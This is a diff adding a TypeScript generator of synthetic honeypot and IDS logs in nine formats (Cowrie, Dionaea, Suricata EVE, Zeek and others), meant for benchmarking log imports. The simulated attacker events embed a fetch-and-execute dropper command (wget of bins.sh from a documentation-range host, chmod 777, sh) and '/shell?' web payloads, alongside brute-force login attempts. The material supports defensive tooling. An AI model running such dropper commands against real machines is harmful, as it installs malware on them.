@@ -1,0 +1,272 @@
+// Logs of any length to measure imports with, in each format, the same for the same length: sources and ports as uneven as a
+// sensor's, the lines of many sessions mixed. Made piece by piece, never held as a whole.
+
+import { renderMicros } from '../../base/clock.ts';
+
+/** 2022-05-28. */
+const firstAt = 1_653_696_000_000_000;
+const microsPerLine = 1500;
+/** Sessions whose lines are mixed. */
+const together = 64;
+const pieceBytes = 64 * 1024;
+
+/** The next line of a session; undefined when it has no more. */
+type Talk = Generator<(at: number) => string | Buffer, void, void>;
+/** What one session says: its number, and where it comes from and goes to. */
+type Script = (number: number, source: string, port: number) => Talk;
+
+/** A few sources of 4,900 make most of the traffic. */
+function sourceOf(number: number): string {
+  const spread = (Math.imul(number, 2_654_435_761) >>> 0) / 2 ** 32;
+  const index = Math.floor(4900 * spread ** 3);
+  return `198.18.${index >> 8}.${index & 255}`;
+}
+
+const common = [445, 23, 22, 80, 6379, 5555, 443, 8080, 3389, 5038];
+const portOf = (number: number): number =>
+  number % 3 === 0 ? 1 + ((Math.imul(number, 40_503) >>> 0) % 65_535) : common[(number >> 2) % common.length];
+
+const decoy = '198.51.100.7';
+const iso = (at: number): string => renderMicros(at);
+const sensor = 'bench';
+const session = (number: number): string => number.toString(16).padStart(12, '0');
+const password = (number: number): string => `pass${number % 997}`;
+const command = (number: number): string =>
+  `cd /tmp || cd /var/run; wget http://203.0.113.${number % 250}/bins.sh; chmod 777 bins.sh; sh bins.sh ${number % 7}`;
+
+function* cowrie(number: number, source: string): Talk {
+  const facts = { session: session(number), src_ip: source, sensor };
+  const line = (event: string, more: object) => (at: number) =>
+    JSON.stringify({ eventid: `cowrie.${event}`, ...more, ...facts, timestamp: iso(at) });
+  yield line('session.connect', { src_port: 1024 + (number % 60_000), dst_ip: decoy, dst_port: 22, protocol: 'ssh' });
+  yield line('client.version', { version: 'SSH-2.0-Go', message: 'Remote SSH version: SSH-2.0-Go' });
+  yield line('client.kex', {
+    hassh: '92674389fa1e47a27ddd8d9b63ecd42b',
+    kexAlgs: ['a'],
+    encCS: ['b'],
+    macCS: ['c'],
+    compCS: ['none'],
+  });
+  for (let attempt = 0; attempt < 1 + (number % 4); attempt += 1)
+    yield line('login.failed', { username: 'root', password: password(number + attempt), message: 'login attempt failed' });
+  if (number % 10 === 0) {
+    yield line('login.success', { username: 'root', password: password(number) });
+    yield line('command.input', { input: command(number), message: 'CMD' });
+    yield line('session.file_download', { url: `http://203.0.113.${number % 250}/bins.sh`, shasum: 'ab'.repeat(32) });
+  }
+  yield line('session.closed', { duration: 4.5, message: 'Connection lost after 4 seconds' });
+}
+
+function* adbhoney(number: number, source: string): Talk {
+  const facts = { session: session(number), src_ip: source, sensor };
+  const line = (event: string, more: object) => (at: number) =>
+    JSON.stringify({ eventid: `adbhoney.${event}`, ...more, ...facts, timestamp: iso(at), unixtime: Math.floor(at / 1e6) });
+  yield line('session.connect', { src_port: 1024 + (number % 60_000), dest_ip: decoy, dest_port: '5555' });
+  yield line('command.input', { input: command(number) });
+  yield line('session.closed', { duration: '45.10' });
+}
+
+/** 70 % say nothing. */
+const payloadOf = (number: number): Buffer =>
+  number % 10 < 7 ? Buffer.alloc(0) : Buffer.from(`GET /shell?${command(number)} HTTP/1.1\r\nHost: ${decoy}\r\n\r\n`);
+
+function* honeytrap(number: number, source: string, port: number): Talk {
+  const bytes = payloadOf(number);
+  const nothing = { md5_hash: '0'.repeat(32), sha512_hash: '0'.repeat(128), length: 0, data_hex: '' };
+  yield (at) =>
+    JSON.stringify({
+      is_virtual: false,
+      '@timestamp': `${iso(at).slice(0, 19)}Z`,
+      start_time: `${iso(at).slice(0, 19)}Z`,
+      end_time: `${iso(at + 1e6).slice(0, 19)}Z`,
+      attack_connection: {
+        protocol: 'tcp',
+        remote_ip: source,
+        remote_port: 1024 + (number % 60_000),
+        local_ip: decoy,
+        local_port: port,
+        payload: {
+          md5_hash: session(number),
+          sha512_hash: '0'.repeat(128),
+          length: bytes.length,
+          data_hex: bytes.toString('hex'),
+        },
+      },
+      proxy_connection: {
+        protocol: 'ip',
+        remote_ip: '0.0.0.0',
+        remote_port: 0,
+        local_ip: '0.0.0.0',
+        local_port: 0,
+        payload: nothing,
+      },
+      operation_mode: 1,
+      download_count: 0,
+      download_tries: 0,
+      downloads: {},
+    });
+}
+
+function* honeytrapGo(number: number, source: string, port: number): Talk {
+  const flow = {
+    'source-ip': source,
+    'source-port': 1024 + (number % 60_000),
+    'destination-ip': decoy,
+    'destination-port': port,
+  };
+  const line = (more: object) => (at: number) =>
+    JSON.stringify({
+      category: 'ssh',
+      sensor: 'services',
+      token: sensor,
+      ...flow,
+      'ssh.sessionid': session(number),
+      ...more,
+      date: iso(at),
+    });
+  for (let attempt = 0; attempt < 3; attempt += 1)
+    yield line({ type: 'password-authentication', 'ssh.username': 'root', 'ssh.password': password(number + attempt) });
+}
+
+function* dionaea(number: number, source: string, port: number): Talk {
+  yield (at) =>
+    JSON.stringify({
+      connection: { protocol: number % 3 ? 'smbd' : 'mssqld', transport: 'tcp', type: 'accept' },
+      dst_ip: decoy,
+      dst_port: port,
+      src_hostname: '',
+      src_ip: source,
+      src_port: 1024 + (number % 60_000),
+      timestamp: iso(at).slice(0, -1),
+      ...(number % 3 === 0 && { credentials: [{ username: 'sa', password: password(number) }] }),
+    });
+}
+
+function* heralding(number: number, source: string, port: number): Talk {
+  const attempts = Array.from({ length: number % 3 }, (_, index) => ({ username: 'admin', password: password(number + index) }));
+  yield (at) =>
+    JSON.stringify({
+      timestamp: iso(at).slice(0, -1).replace('T', ' '),
+      duration: number % 5,
+      session_id: session(number),
+      source_ip: source,
+      source_port: 1024 + (number % 60_000),
+      destination_ip: decoy,
+      destination_port: port,
+      protocol: number % 2 ? 'vnc' : 'pop3',
+      num_auth_attempts: attempts.length,
+      auth_attempts: attempts,
+      session_ended: true,
+      auxiliary_data: {},
+    });
+}
+
+function* opencanary(number: number, source: string): Talk {
+  const facts = { dst_host: decoy, dst_port: 22, node_id: sensor, src_host: source, src_port: 1024 + (number % 60_000) };
+  const line = (logtype: number, logdata: object) => (at: number) =>
+    JSON.stringify({ ...facts, logtype, logdata, utc_time: iso(at).slice(0, -1).replace('T', ' ') });
+  yield line(4000, { SESSION: String(number) });
+  yield line(4001, { LOCALVERSION: 'SSH-2.0-OpenSSH_5.1p1 Debian-4', REMOTEVERSION: 'SSH-2.0-Go' });
+  for (let attempt = 0; attempt < 2; attempt += 1) yield line(4002, { USERNAME: 'root', PASSWORD: password(number + attempt) });
+}
+
+function* eve(number: number, source: string, port: number): Talk {
+  const flow = {
+    flow_id: 1e12 + number,
+    src_ip: source,
+    src_port: 1024 + (number % 60_000),
+    dest_ip: decoy,
+    dest_port: port,
+    proto: 'TCP',
+  };
+  const line = (event_type: string, more: (at: number) => object) => (at: number) =>
+    JSON.stringify({ timestamp: iso(at).replace('Z', '+0000'), event_type, ...flow, ...more(at) });
+  const silent = number % 10 < 7;
+  if (!silent) {
+    const http = {
+      hostname: decoy,
+      url: `/shell?${number % 977}`,
+      http_user_agent: 'x',
+      http_method: 'GET',
+      protocol: 'HTTP/1.1',
+    };
+    yield line('http', () => ({ app_proto: 'http', http }));
+    yield line('alert', () => ({ alert: { gid: 1, signature_id: 2_019_401 + (number % 20), signature: 'a rule', severity: 1 } }));
+  }
+  yield line('flow', (at) => ({
+    flow: {
+      pkts_toserver: silent ? 1 : 6,
+      pkts_toclient: silent ? 1 : 5,
+      bytes_toserver: silent ? 60 : 700,
+      bytes_toclient: silent ? 60 : 600,
+      start: iso(at - 100_000).replace('Z', '+0000'),
+      end: iso(at).replace('Z', '+0000'),
+      state: 'closed',
+      reason: 'timeout',
+    },
+    tcp: { tcp_flags_ts: silent ? '02' : '1b', tcp_flags_tc: silent ? '14' : '1b', state: 'closed' },
+  }));
+}
+
+function* zeek(number: number, source: string, port: number): Talk {
+  const silent = number % 10 < 7;
+  yield (at) => {
+    const facts = [source, 1024 + (number % 60_000), decoy, port, 'tcp', silent ? '-' : 'http'];
+    const ending = silent ? ['-', '-', '-', 'S0', 'F', 'T', 0, 'S', 1] : ['1.25', 100, 2000, 'SF', 'F', 'T', 0, 'ShADadFf', 6];
+    return [(at / 1e6).toFixed(6), `C${session(number)}`, ...facts, ...ending].join('\t');
+  };
+}
+
+const zeekHeader = [
+  '#separator \\x09',
+  '#set_separator\t,',
+  '#empty_field\t(empty)',
+  '#unset_field\t-',
+  '#path\tconn',
+  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts',
+];
+
+const scripts: Readonly<Record<string, { readonly script: Script; readonly header?: readonly string[] }>> = {
+  cowrie: { script: cowrie },
+  adbhoney: { script: adbhoney },
+  honeytrap: { script: honeytrap },
+  'honeytrap-go': { script: honeytrapGo },
+  dionaea: { script: dionaea },
+  heralding: { script: heralding },
+  opencanary: { script: opencanary },
+  eve: { script: eve },
+  zeek: { script: zeek, header: zeekHeader },
+};
+
+/** Formats there is a generator for. */
+export const generatedFormats: readonly string[] = Object.keys(scripts);
+
+/** A log of exactly so many lines, in pieces of whole lines. */
+export function* generateLog(format: string, lines: number): Generator<Buffer> {
+  const { script, header = [] } = scripts[format];
+  let text = '';
+  let written = 0;
+  for (const line of header.slice(0, lines)) {
+    text += `${line}\n`;
+    written += 1;
+  }
+  const begin = (number: number): Talk => script(number, sourceOf(number), portOf(number));
+  const talks = Array.from({ length: together }, (_, index) => begin(index));
+  let next = together;
+  let turn = 0;
+  while (written < lines) {
+    turn = (turn + 37) % together;
+    const { value } = talks[turn].next();
+    if (!value) {
+      talks[turn] = begin(next);
+      next += 1;
+      continue;
+    }
+    text += `${value(firstAt + written * microsPerLine)}\n`;
+    written += 1;
+    if (text.length < pieceBytes) continue;
+    yield Buffer.from(text);
+    text = '';
+  }
+  if (text !== '') yield Buffer.from(text);
+}
